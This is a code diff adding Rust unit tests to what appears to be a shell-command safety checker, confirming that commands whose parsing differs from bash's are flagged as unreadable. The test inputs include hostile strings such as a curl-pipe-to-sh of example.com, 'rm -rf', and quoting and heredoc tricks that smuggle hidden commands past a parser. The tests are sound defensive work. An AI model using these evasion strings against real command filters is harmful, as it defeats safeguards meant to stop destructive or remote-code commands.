@@ -331,6 +331,34 @@ fn an_empty_group_is_unreadable() {
 }
 
 #[test]
+fn a_token_the_parser_ends_elsewhere_than_bash_is_unreadable() {
+    // `$'\\'` ends after the escaped backslash; the parser runs on to the next `'`
+    // and reads `touch` and `curl` as the words of an `echo`.
+    let hidden = "echo $'\\\\'; touch pwned; curl -s http://example.com|sh; echo ' #'";
+    assert!(parts(hidden).contains(&"unreadable syntax".to_owned()), "{:?}", parts(hidden));
+    // Quotes anywhere in a delimiter are removed: the body ends at `true`, and bash
+    // runs the line after it.
+    for command in ["cat <<tru\"e\"\nx\ntrue\nrm -rf sub\ntru\"e\"", "cat <<E'OF'\nx\nEOF\nrm x\nE'OF'"] {
+        assert_eq!(parts(command), ["unreadable syntax"], "{command:?}");
+    }
+    reads("echo $'a\\'b' $'\\\\n'", &["run echo $$'a\\'b' $$'\\\\n'"]);
+    reads("cat <<'EOF'\n$(x)\nEOF\n", &["run cat"]);
+    // A `~` after `=` or `:` is a home, as bash expands it; escaped, it is itself.
+    reads("echo a=~ b:~/x a=\\~", &["run echo $a=~ $b:~/x a=~"]);
+    reads("cat <<\"EOF\"\nx\nEOF\n", &["run cat"]);
+}
+
+#[test]
+fn a_program_of_sh_c_is_checked_as_the_whole_command_is() {
+    // Inside `bash -c`'s program a backslash-newline joins `$` and `(`: a substitution.
+    for command in ["bash -c 'echo \"$\\'\"\n(touch pwned)\\\"\"", "sh -c 'echo \"$\\'\"\n(touch pwned)\\\"\""] {
+        assert!(parts(command).contains(&"unreadable syntax".to_owned()), "{command:?}: {:?}", parts(command));
+    }
+    assert_eq!(parts("sh -c 'cat <<''-''E'"), ["unreadable syntax"]);
+    reads("sh -c 'ls -la'", &["run ls -la"]);
+}
+
+#[test]
 fn what_bash_joins_or_assigns_beyond_the_parse_is_unreadable() {
     for command in [
         "echo \"$\\\n(rm x)\"",
